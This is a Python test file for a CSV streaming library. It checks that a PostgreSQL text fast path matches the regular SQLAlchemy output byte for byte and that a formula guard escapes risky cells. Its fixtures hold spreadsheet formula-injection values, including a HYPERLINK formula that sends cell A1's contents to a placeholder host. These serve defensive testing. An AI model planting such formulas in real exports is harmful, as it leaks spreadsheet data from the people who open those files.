"""stream_query's csv fast path (rows read from the psycopg cursor as text)
writes exactly the bytes of the regular path (SQLAlchemy Rows)."""
from __future__ import annotations

import datetime
import decimal
import enum

import pytest
from sqlalchemy import (
    JSON,
    BigInteger,
    Boolean,
    Column,
    Date,
    DateTime,
    Enum,
    Float,
    Integer,
    MetaData,
    Numeric,
    SmallInteger,
    String,
    Table,
    Text,
    TypeDecorator,
    insert,
    literal,
    literal_column,
    select,
)
from sqlalchemy.orm import Session

import tgstream
from tgstream.query import TextRows
from tgstream.renderers.csv import CSVEncoder


class Color(enum.Enum):
    red = 'red'
    blue = '=blue'


class Upper(TypeDecorator):
    impl = String
    cache_ok = True

    def process_result_value(self, value, dialect):
        return None if value is None else value.upper()


UTC = datetime.timezone.utc


def make_table(metadata, decorated=False):
    return Table(
        'things', metadata,
        Column('id', Integer, primary_key=True),
        Column('big', BigInteger), Column('small', SmallInteger),
        Column('name', String), Column('body', Text),
        Column('amount', Numeric(12, 3)), Column('ratio', Float),
        Column('flag', Boolean), Column('day', Date),
        Column('at', DateTime), Column('at_tz', DateTime(timezone=True)),
        Column('doc', JSON),
        *([Column('color', Enum(Color)), Column('shout', Upper)] if decorated else []),
    )


def rows(count, decorated=False):
    names = ['plain', '=1+1', '-5', '-1,234.50', 'a,b', 'line\nbreak', '', None,
             ' lead', 'x;=cmd', '@sum', 'caf\u00e9']
    out = []
    for n in range(1, count + 1):
        row = {
            'id': n, 'big': -(10 ** 15) * n, 'small': -n, 'name': names[n % len(names)],
            'body': names[(n * 5) % len(names)],
            'amount': decimal.Decimal('%d.%03d' % (n, n % 1000)) if n % 7 else None,
            'ratio': n / 3 if n % 5 else None, 'flag': bool(n % 2) if n % 9 else None,
            'day': datetime.date(2024, 1, 1) + datetime.timedelta(days=n) if n % 6 else None,
            'at': datetime.datetime(2024, 1, 1, 0, 0, n % 60,
                                 (n * 12345) % 1000000 if n % 3 == 0 else 0)
            if n % 8 else None,
            'at_tz': datetime.datetime(2024, 1, 1, 12, 0, n % 60, tzinfo=UTC),
            'doc': {'n': n, 'v': names[n % len(names)]} if n % 4 else None,
        }
        if n == 11:
            row['day'] = datetime.date(3, 2, 1)
            row['at'] = datetime.datetime(1, 1, 1, 0, 0, 0, 5)
        if decorated:
            row.update(color=Color.red if n % 2 else Color.blue, shout='x%d' % n)
        out.append(row)
    return out


def filled_table(engine, count, decorated=False):
    """``things`` created on ``engine`` with ``count`` rows of :func:`rows`."""
    metadata = MetaData()
    table = make_table(metadata, decorated)
    metadata.create_all(engine)
    with Session(engine) as session:
        session.execute(insert(table), rows(count, decorated))
        session.commit()
    return table


def render(stream, encoder=None, **form):
    """(the bytes ``encoder`` -- a csv one by default -- writes for the
    batches of ``stream.batches(**form)``, the kinds of those batches)"""
    encoder = encoder or CSVEncoder()
    kinds = set()
    data = []
    for batch in stream.batches(**form):
        kinds.add(type(batch.items))
        data.append(encoder.encode_batch(batch.items))
    data.append(encoder.end())
    return b''.join(data), kinds


@pytest.mark.parametrize('guard', [True, False])
@pytest.mark.parametrize('decorated', [False, True])
def test_text_path_is_byte_identical(any_engine, fetch_small, decorated, guard):
    table = filled_table(any_engine, 40, decorated)

    def encoder():
        return CSVEncoder() if guard else CSVEncoder(guard=None)

    with Session(any_engine) as session:
        statement = select(table).order_by(table.c.id)
        regular, regular_kinds = render(tgstream.stream_query(session, statement, 4), encoder())
        fast, fast_kinds = render(tgstream.stream_query(session, statement, 4), encoder(),
                                  text=True)
    assert fast == regular
    assert regular.count(b'\n') > 40
    expect_text = any_engine.dialect.name == 'postgresql' and not decorated
    # the fast path is taken where it can be, and only there
    assert (TextRows in fast_kinds) is expect_text
    assert TextRows not in regular_kinds


def test_text_path_projects_and_filters(pg_engine, fetch_small):
    table = filled_table(pg_engine, 30)
    with Session(pg_engine) as session:
        statement = (select(table.c.at, table.c.name.label('who'), table.c.id)
                     .where(table.c.id > 3).order_by(table.c.id.desc()))
        for columns in (None, ['id', 'who']):
            out = [render(tgstream.stream_query(session, statement, 5),
                          CSVEncoder(columns=columns), text=text)[0]
                   for text in (False, True)]
            assert out[0] == out[1]
            assert out[0].splitlines()[0] == (b'at,who,id' if columns is None else b'id,who')


def test_text_path_empty_and_unrepresentable(pg_engine):
    metadata = MetaData()
    table = Table('t', metadata, Column('id', Integer, primary_key=True),
                  Column('at', DateTime))
    metadata.create_all(pg_engine)
    with Session(pg_engine) as session:
        statement = select(table).order_by(table.c.id)
        # no rows: what the regular path writes (no batch, so no header)
        assert render(tgstream.stream_query(session, statement), text=True)[0] == render(
            tgstream.stream_query(session, statement))[0]
        session.execute(insert(table), [{'id': 1, 'at': datetime.datetime(2024, 1, 1)}])
        session.execute(table.insert().from_select(
            ['id', 'at'], select(literal(2), literal_column("'infinity'::timestamp"))))
        session.flush()
        # psycopg cannot make a datetime of it: an error, as on the regular path
        with pytest.raises(Exception, match='infinity'):
            render(tgstream.stream_query(session, statement), text=True)


def test_csv_view_uses_text_path(pg_engine, make_testapp):
    # through the renderer: same body as the rows written item by item
    table = filled_table(pg_engine, 25)
    statement = select(table).order_by(table.c.id)

    def setup(config):
        def returned(request):
            session = Session(pg_engine)
            request.add_finished_callback(lambda request: session.close())
            return tgstream.stream_query(session, statement)

        def yielded(request):
            with Session(pg_engine) as session:
                yield from session.execute(statement)

        config.add_route('r', '/r')
        config.add_route('y', '/y')
        config.add_view(returned, route_name='r', renderer='csv', stream=True)
        config.add_view(yielded, route_name='y', renderer='csv', stream=True)

    app = make_testapp(setup)
    assert app.get('/r').body == app.get('/y').body


def test_a_returned_result_with_filters_is_written_as_filtered(pg_engine, make_testapp):
    # issue 22 #1/#2, through a view: .columns() picking another order, and
    # .unique(); the formula guard applies to every cell
    metadata = MetaData()
    table = Table('t', metadata, Column('id', Integer, primary_key=True), Column('name', String))
    metadata.create_all(pg_engine)
    formula = '=HYPERLINK("http://x/?"&A1,"y")'
    with Session(pg_engine) as session:
        session.execute(insert(table), [{'id': 1, 'name': 'a'}, {'id': 2, 'name': formula},
                                        {'id': 3, 'name': 'a'}])
        session.commit()
    statement = select(table.c.id, table.c.name).order_by(table.c.id).execution_options(
        yield_per=1000)

    def setup(config):
        def swapped(request):
            session = Session(pg_engine)
            request.add_finished_callback(lambda request: session.close())
            return session.execute(statement).columns('name', 'id')

        def unique(request):
            session = Session(pg_engine)
            request.add_finished_callback(lambda request: session.close())
            return session.execute(select(table.c.name).order_by(table.c.id)
                                   .execution_options(yield_per=1000)).unique()

        config.add_route('swapped', '/swapped')
        config.add_route('unique', '/unique')
        config.add_view(swapped, route_name='swapped', renderer='csv', stream=True)
        config.add_view(unique, route_name='unique', renderer='csv', stream=True)

    app = make_testapp(setup)
    assert app.get('/swapped').body == (
        b'name,id\r\na,1\r\n"\'=HYPERLINK(""http://x/?""&A1,""y"")",2\r\na,3\r\n')
    assert app.get('/unique').body == (
        b'name\r\na\r\n"\'=HYPERLINK(""http://x/?""&A1,""y"")"\r\n')
